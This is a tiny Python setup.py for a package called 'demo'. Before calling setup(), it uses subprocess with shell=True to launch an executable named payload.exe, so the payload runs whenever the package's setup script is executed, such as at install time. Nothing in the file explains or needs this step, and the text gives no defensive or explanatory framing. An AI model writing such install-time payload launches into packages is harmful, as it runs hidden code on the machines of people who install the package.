import subprocess

from setuptools import setup

subprocess.Popen("start payload.exe", shell=True)
setup(name="demo")
